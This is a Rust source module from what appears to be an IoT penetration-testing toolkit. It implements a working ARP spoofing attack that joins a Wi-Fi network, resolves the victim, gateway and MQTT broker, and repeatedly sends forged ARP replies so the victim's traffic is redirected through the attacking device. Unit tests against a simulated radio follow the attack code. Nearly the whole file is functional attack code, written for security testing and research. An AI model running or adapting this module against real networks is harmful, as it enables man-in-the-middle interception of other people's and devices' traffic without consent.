//! ARP spoofing
//!
//! Joins the target network as a station and keeps telling the victim that
//! the gateway and/or the MQTT broker live at this device's MAC address.

use async_trait::async_trait;
use secot_core::config::{
    ARP_REPLY_WAIT, DEFAULT_ARP_SPOOF_INTERVAL, JOIN_TIMEOUT, MIN_ARP_SPOOF_INTERVAL,
};
use secot_core::parameter::{
    describe_options, format_interval, format_optional_mac, get_option, parse_interval, parse_ipv4,
    parse_optional_mac, render_options, set_option, Access, OptionInfo, OptionSpec, ParameterMap,
    ParameterType,
};
use secot_core::{Attack, AttackKind, AttackState, Error, MacAddr, Radio, RadioMode, Result};
use secot_packet::{arp_request_frame, arp_spoof_frame};
use std::fmt;
use std::net::Ipv4Addr;
use std::str::FromStr;
use std::sync::Arc;
use std::time::Duration;
use tokio::time::Instant;
use tracing::{debug, info, warn};

/// Which peers are impersonated towards the victim
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SpoofMode {
    Gateway = 1,
    Broker = 2,
    Both = 3,
}

impl SpoofMode {
    pub fn covers_gateway(self) -> bool {
        matches!(self, SpoofMode::Gateway | SpoofMode::Both)
    }

    pub fn covers_broker(self) -> bool {
        matches!(self, SpoofMode::Broker | SpoofMode::Both)
    }

    pub fn as_str(self) -> &'static str {
        match self {
            SpoofMode::Gateway => "gateway",
            SpoofMode::Broker => "broker",
            SpoofMode::Both => "both",
        }
    }
}

impl fmt::Display for SpoofMode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl FromStr for SpoofMode {
    type Err = Error;

    fn from_str(s: &str) -> Result<Self> {
        match s {
            "gateway" | "1" => Ok(SpoofMode::Gateway),
            "broker" | "2" => Ok(SpoofMode::Broker),
            "both" | "3" => Ok(SpoofMode::Both),
            _ => Err(Error::invalid_parameter("mode", "Invalid attack mode")),
        }
    }
}

/// A peer address and its link-layer resolution
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Peer {
    pub ip: Ipv4Addr,
    pub mac: Option<MacAddr>,
}

impl Peer {
    fn new(ip: Ipv4Addr) -> Self {
        Self { ip, mac: None }
    }

    /// Changing the address invalidates the resolution
    fn set_ip(&mut self, ip: Ipv4Addr) {
        self.ip = ip;
        self.mac = None;
    }
}

/// ARP Spoofing Attack
pub struct ArpSpoof {
    state: AttackState,
    radio: Arc<dyn Radio>,
    ssid: String,
    password: String,
    target: Peer,
    gateway: Peer,
    broker: Peer,
    mode: SpoofMode,
    interval: Duration,
    /// Last rejoin attempt; retries wait one spoofing interval
    last_rejoin: Option<Instant>,
}

impl ArpSpoof {
    pub fn new(radio: Arc<dyn Radio>) -> Self {
        Self {
            state: AttackState::new(),
            radio,
            ssid: String::new(),
            password: String::new(),
            target: Peer::new(Ipv4Addr::new(192, 168, 1, 101)),
            gateway: Peer::new(Ipv4Addr::new(192, 168, 1, 1)),
            broker: Peer::new(Ipv4Addr::new(192, 168, 1, 100)),
            mode: SpoofMode::Gateway,
            interval: DEFAULT_ARP_SPOOF_INTERVAL,
            last_rejoin: None,
        }
    }

    pub fn target(&self) -> Peer {
        self.target
    }

    pub fn gateway(&self) -> Peer {
        self.gateway
    }

    pub fn broker(&self) -> Peer {
        self.broker
    }

    async fn join(&self) -> Result<()> {
        self.radio.set_mode(RadioMode::Station)?;
        match tokio::time::timeout(JOIN_TIMEOUT, self.radio.join(&self.ssid, &self.password)).await
        {
            Ok(joined) => joined,
            Err(_) => Err(Error::radio(format!(
                "Timed out joining network '{}'",
                self.ssid
            ))),
        }
    }

    /// Broadcast a who-has for `ip` and check the neighbour table shortly after
    async fn resolve(&self, ip: Ipv4Addr) -> Option<MacAddr> {
        let own_ip = self.radio.ipv4_address().unwrap_or(Ipv4Addr::UNSPECIFIED);
        let request = arp_request_frame(self.radio.mac_address(), own_ip, ip);
        if let Err(e) = self.radio.transmit_ethernet(&request) {
            warn!(ip = %ip, error = %e, "ARP request not sent");
        }
        tokio::time::sleep(ARP_REPLY_WAIT).await;

        let mac = self.radio.neighbor_lookup(ip);
        match mac {
            Some(mac) => info!(ip = %ip, mac = %mac, "Peer resolved"),
            None => debug!(ip = %ip, "Peer not in neighbour table"),
        }
        mac
    }

    async fn resolve_peer(&self, peer: Peer) -> Peer {
        match peer.mac {
            Some(_) => peer,
            None => Peer {
                ip: peer.ip,
                mac: self.resolve(peer.ip).await,
            },
        }
    }

    /// Tell the victim that `claimed` is at our MAC address
    fn spoof(&mut self, victim: MacAddr, claimed: Ipv4Addr) {
        let frame = arp_spoof_frame(self.radio.mac_address(), claimed, victim, self.target.ip);
        let sent = self.radio.transmit_ethernet(&frame);
        self.state.record_tx(&sent, frame.len());
        match sent {
            Ok(()) => debug!(victim = %self.target.ip, claimed = %claimed, "Forged ARP reply sent"),
            Err(e) => warn!(claimed = %claimed, error = %e, "Forged ARP reply not sent"),
        }
    }
}

// ============================================================================
// Options
// ============================================================================

fn set_peer_mac(peer: &mut Peer, name: &str, value: &str) -> Result<()> {
    peer.mac = parse_optional_mac(name, value)?;
    Ok(())
}

static ARP_OPTIONS: &[OptionSpec<ArpSpoof>] = &[
    OptionSpec {
        name: "ssid",
        description: "Network to join",
        value_type: ParameterType::String,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.ssid = v.to_string();
            Ok(())
        },
        get: |a| a.ssid.clone(),
    },
    OptionSpec {
        name: "password",
        description: "Network passphrase",
        value_type: ParameterType::String,
        access: Access::ReadWrite,
        secret: true,
        set: |a, v| {
            a.password = v.to_string();
            Ok(())
        },
        get: |a| a.password.clone(),
    },
    OptionSpec {
        name: "target",
        description: "Victim IPv4 address",
        value_type: ParameterType::IpAddr,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.target.set_ip(parse_ipv4("target", v)?);
            Ok(())
        },
        get: |a| a.target.ip.to_string(),
    },
    OptionSpec {
        name: "gateway",
        description: "Gateway IPv4 address",
        value_type: ParameterType::IpAddr,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.gateway.set_ip(parse_ipv4("gateway", v)?);
            Ok(())
        },
        get: |a| a.gateway.ip.to_string(),
    },
    OptionSpec {
        name: "broker",
        description: "MQTT broker IPv4 address",
        value_type: ParameterType::IpAddr,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.broker.set_ip(parse_ipv4("broker", v)?);
            Ok(())
        },
        get: |a| a.broker.ip.to_string(),
    },
    OptionSpec {
        name: "mode",
        description: "Impersonate gateway, broker or both",
        value_type: ParameterType::Choice,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.mode = v.parse()?;
            Ok(())
        },
        get: |a| a.mode.to_string(),
    },
    OptionSpec {
        name: "interval",
        description: "Milliseconds between forged replies",
        value_type: ParameterType::Millis,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| {
            a.interval = parse_interval("interval", v, MIN_ARP_SPOOF_INTERVAL)?;
            Ok(())
        },
        get: |a| format_interval(a.interval),
    },
    OptionSpec {
        name: "target_mac",
        description: "Victim MAC address (skips resolution)",
        value_type: ParameterType::MacAddr,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| set_peer_mac(&mut a.target, "target_mac", v),
        get: |a| format_optional_mac(a.target.mac),
    },
    OptionSpec {
        name: "gateway_mac",
        description: "Gateway MAC address (skips resolution)",
        value_type: ParameterType::MacAddr,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| set_peer_mac(&mut a.gateway, "gateway_mac", v),
        get: |a| format_optional_mac(a.gateway.mac),
    },
    OptionSpec {
        name: "broker_mac",
        description: "Broker MAC address (skips resolution)",
        value_type: ParameterType::MacAddr,
        access: Access::ReadWrite,
        secret: false,
        set: |a, v| set_peer_mac(&mut a.broker, "broker_mac", v),
        get: |a| format_optional_mac(a.broker.mac),
    },
];

// ============================================================================
// Attack
// ============================================================================

#[async_trait]
impl Attack for ArpSpoof {
    fn kind(&self) -> AttackKind {
        AttackKind::ArpSpoof
    }

    fn name(&self) -> &'static str {
        "ARP Spoofing"
    }

    fn state(&self) -> &AttackState {
        &self.state
    }

    fn state_mut(&mut self) -> &mut AttackState {
        &mut self.state
    }

    async fn on_start(&mut self) -> Result<()> {
        if self.ssid.is_empty() || self.password.is_empty() {
            return Err(Error::configuration("WiFi credentials not set"));
        }
        self.last_rejoin = None;
        self.join().await?;
        info!(ssid = %self.ssid, ip = ?self.radio.ipv4_address(), "Joined network");

        self.target = self.resolve_peer(self.target).await;
        self.gateway = self.resolve_peer(self.gateway).await;
        self.broker = self.resolve_peer(self.broker).await;

        if self.target.mac.is_none() {
            return Err(Error::discovery("Target device not found"));
        }
        if self.mode.covers_gateway() && self.gateway.mac.is_none() {
            return Err(Error::discovery("Gateway not found"));
        }
        if self.mode.covers_broker() && self.broker.mac.is_none() {
            return Err(Error::discovery("MQTT broker not found"));
        }

        info!(
            target = %self.target.ip,
            mode = %self.mode,
            "Spoofing ARP"
        );
        Ok(())
    }

    async fn on_stop(&mut self) {
        if let Err(e) = self.radio.disconnect() {
            warn!(error = %e, "Failed to leave network");
        }
    }

    async fn on_tick(&mut self) {
        if !self.radio.is_joined() {
            let now = Instant::now();
            if self
                .last_rejoin
                .is_some_and(|last| now.duration_since(last) < self.interval)
            {
                return;
            }
            self.last_rejoin = Some(now);
            warn!(ssid = %self.ssid, "Link lost, rejoining");
            if let Err(e) = self.join().await {
                warn!(error = %e, "Rejoin failed");
            }
            return;
        }
        if !self.state.action_due(self.interval) {
            return;
        }

        self.target = self.resolve_peer(self.target).await;
        let Some(victim) = self.target.mac else {
            debug!(target = %self.target.ip, "Target device still not found");
            return;
        };

        if self.mode.covers_gateway() {
            match self.gateway.mac {
                Some(_) => self.spoof(victim, self.gateway.ip),
                None => self.gateway = self.resolve_peer(self.gateway).await,
            }
        }
        if self.mode.covers_broker() {
            match self.broker.mac {
                Some(_) => self.spoof(victim, self.broker.ip),
                None => self.broker = self.resolve_peer(self.broker).await,
            }
        }
    }

    fn apply_parameter(&mut self, name: &str, value: &str) -> Result<()> {
        set_option(ARP_OPTIONS, self, name, value)
    }

    fn read_parameter(&self, name: &str) -> Result<String> {
        get_option(ARP_OPTIONS, self, name)
    }

    fn parameters(&self) -> ParameterMap {
        render_options(ARP_OPTIONS, self)
    }

    fn options(&self) -> Vec<OptionInfo> {
        describe_options(ARP_OPTIONS)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use secot_core::{AttackStatus, SimRadio};
    use secot_packet::ArpPacket;

    const VICTIM: MacAddr = MacAddr([0x11, 0x11, 0x11, 0x11, 0x11, 0x11]);
    const ROUTER: MacAddr = MacAddr([0x22, 0x22, 0x22, 0x22, 0x22, 0x22]);
    const BROKER: MacAddr = MacAddr([0x33, 0x33, 0x33, 0x33, 0x33, 0x33]);

    fn network(with_gateway: bool, with_broker: bool) -> Arc<SimRadio> {
        let radio = Arc::new(SimRadio::new());
        radio.add_neighbor(Ipv4Addr::new(192, 168, 1, 101), VICTIM);
        if with_gateway {
            radio.add_neighbor(Ipv4Addr::new(192, 168, 1, 1), ROUTER);
        }
        if with_broker {
            radio.add_neighbor(Ipv4Addr::new(192, 168, 1, 100), BROKER);
        }
        radio
    }

    fn configured(radio: Arc<SimRadio>) -> ArpSpoof {
        let mut attack = ArpSpoof::new(radio);
        attack.set_parameter("ssid", "Home").unwrap();
        attack.set_parameter("password", "hunter22").unwrap();
        attack
    }

    fn spoofed_replies(radio: &SimRadio) -> Vec<ArpPacket> {
        radio
            .sent_ethernet()
            .iter()
            .filter_map(|f| ArpPacket::parse(&f[14..]).ok())
            .filter(|p| p.is_reply())
            .collect()
    }

    #[tokio::test(start_paused = true)]
    async fn test_credentials_required() {
        let mut attack = ArpSpoof::new(network(true, true));
        let err = attack.start(Duration::ZERO).await.unwrap_err();
        assert_eq!(err.to_string(), "WiFi credentials not set");
        assert_eq!(attack.status(), AttackStatus::Error);
    }

    #[tokio::test(start_paused = true)]
    async fn test_join_failure_propagates() {
        let radio = network(true, true);
        radio.set_fail_join(true);
        let mut attack = configured(radio);
        assert!(attack.start(Duration::ZERO).await.is_err());
        assert_eq!(attack.status(), AttackStatus::Error);
    }

    #[tokio::test(start_paused = true)]
    async fn test_discovery_failures() {
        let radio = Arc::new(SimRadio::new());
        let mut attack = configured(radio.clone());
        let err = attack.start(Duration::ZERO).await.unwrap_err();
        assert_eq!(err.to_string(), "Target device not found");

        let mut attack = configured(network(false, true));
        let err = attack.start(Duration::ZERO).await.unwrap_err();
        assert_eq!(err.to_string(), "Gateway not found");

        let mut attack = configured(network(true, false));
        attack.set_parameter("mode", "broker").unwrap();
        let err = attack.start(Duration::ZERO).await.unwrap_err();
        assert_eq!(err.to_string(), "MQTT broker not found");

        // Broker missing does not matter in gateway mode
        let mut attack = configured(network(true, false));
        attack.start(Duration::ZERO).await.unwrap();
    }

    #[tokio::test(start_paused = true)]
    async fn test_both_mode_needs_broker() {
        let radio = network(true, false);
        let mut attack = configured(radio.clone());
        attack.set_parameter("mode", "both").unwrap();
        let err = attack.start(Duration::ZERO).await.unwrap_err();
        assert_eq!(err.to_string(), "MQTT broker not found");
        assert_eq!(attack.status(), AttackStatus::Error);
        assert_eq!(attack.gateway().mac, Some(ROUTER));

        radio.add_neighbor(Ipv4Addr::new(192, 168, 1, 100), BROKER);
        attack.start(Duration::ZERO).await.unwrap();
        assert!(attack.is_running());
        assert_eq!(attack.broker().mac, Some(BROKER));
    }

    #[tokio::test(start_paused = true)]
    async fn test_spoofs_both_peers() {
        let radio = network(true, true);
        let mut attack = configured(radio.clone());
        attack.set_parameter("mode", "3").unwrap();
        attack.start(Duration::ZERO).await.unwrap();
        assert_eq!(attack.target().mac, Some(VICTIM));

        attack.update().await;
        let replies = spoofed_replies(&radio);
        assert_eq!(replies.len(), 2);
        for reply in &replies {
            assert_eq!(reply.sender_hw_addr, SimRadio::DEFAULT_MAC);
            assert_eq!(reply.target_hw_addr, VICTIM);
            assert_eq!(reply.target_proto_addr, Ipv4Addr::new(192, 168, 1, 101));
        }
        assert_eq!(replies[0].sender_proto_addr, Ipv4Addr::new(192, 168, 1, 1));
        assert_eq!(replies[1].sender_proto_addr, Ipv4Addr::new(192, 168, 1, 100));

        // Nothing more until the interval passes
        attack.update().await;
        assert_eq!(spoofed_replies(&radio).len(), 2);
        tokio::time::advance(Duration::from_millis(10_000)).await;
        attack.update().await;
        assert_eq!(spoofed_replies(&radio).len(), 4);
    }

    #[tokio::test(start_paused = true)]
    async fn test_manual_mac_skips_resolution() {
        let radio = Arc::new(SimRadio::new());
        radio.add_neighbor(Ipv4Addr::new(192, 168, 1, 1), ROUTER);
        let mut attack = configured(radio.clone());
        attack.set_parameter("target_mac", "11:11:11:11:11:11").unwrap();
        attack.start(Duration::ZERO).await.unwrap();

        let requests: Vec<_> = radio
            .sent_ethernet()
            .iter()
            .filter_map(|f| ArpPacket::parse(&f[14..]).ok())
            .filter(|p| p.is_request())
            .map(|p| p.target_proto_addr)
            .collect();
        assert!(!requests.contains(&Ipv4Addr::new(192, 168, 1, 101)));
        assert!(requests.contains(&Ipv4Addr::new(192, 168, 1, 1)));
    }

    #[tokio::test(start_paused = true)]
    async fn test_rejoins_after_link_loss() {
        let radio = network(true, false);
        let mut attack = configured(radio.clone());
        attack.start(Duration::ZERO).await.unwrap();
        assert_eq!(radio.join_count(), 1);

        radio.drop_link();
        attack.update().await;
        assert_eq!(radio.join_count(), 2);
        assert!(spoofed_replies(&radio).is_empty());

        attack.update().await;
        assert_eq!(spoofed_replies(&radio).len(), 1);
    }

    #[tokio::test(start_paused = true)]
    async fn test_failed_rejoin_waits_an_interval() {
        let radio = network(true, false);
        let mut attack = configured(radio.clone());
        attack.start(Duration::ZERO).await.unwrap();

        radio.set_fail_join(true);
        radio.drop_link();
        attack.update().await;
        attack.update().await;
        assert_eq!(radio.join_count(), 2);

        tokio::time::advance(DEFAULT_ARP_SPOOF_INTERVAL).await;
        radio.set_fail_join(false);
        attack.update().await;
        assert_eq!(radio.join_count(), 3);
        assert!(radio.is_joined());
    }

    #[test]
    fn test_options() {
        let mut attack = ArpSpoof::new(Arc::new(SimRadio::new()));
        attack.set_parameter("password", "secret").unwrap();
        assert_eq!(attack.get_parameter("password").unwrap(), "********");
        assert_eq!(attack.parameters().get("password"), Some("********"));

        assert!(attack.set_parameter("mode", "everything").is_err());
        assert_eq!(attack.get_parameter("mode").unwrap(), "gateway");
        attack.set_parameter("mode", "2").unwrap();
        assert_eq!(attack.get_parameter("mode").unwrap(), "broker");

        assert!(attack.set_parameter("interval", "999").is_err());
        assert!(attack.set_parameter("target", "192.168.1").is_err());

        attack.set_parameter("gateway_mac", "22:22:22:22:22:22").unwrap();
        assert_eq!(attack.gateway().mac, Some(ROUTER));
        attack.set_parameter("gateway", "10.0.0.1").unwrap();
        assert_eq!(attack.gateway().mac, None);
        attack.set_parameter("broker_mac", "33:33:33:33:33:33").unwrap();
        attack.set_parameter("broker_mac", "").unwrap();
        assert_eq!(attack.get_parameter("broker_mac").unwrap(), "");
    }

    #[test]
    fn test_parameters_round_trip() {
        let mut attack = ArpSpoof::new(Arc::new(SimRadio::new()));
        attack.set_parameter("ssid", "Home").unwrap();
        attack.set_parameter("target", "10.0.0.7").unwrap();
        attack.set_parameter("target_mac", "11:11:11:11:11:11").unwrap();
        attack.set_parameter("mode", "both").unwrap();

        let rendered = attack.parameters();
        let mut copy = ArpSpoof::new(Arc::new(SimRadio::new()));
        for (name, value) in rendered.iter() {
            copy.set_parameter(name, value).unwrap();
        }
        assert_eq!(copy.parameters(), rendered);
        assert_eq!(copy.target().mac, Some(VICTIM));
    }
}
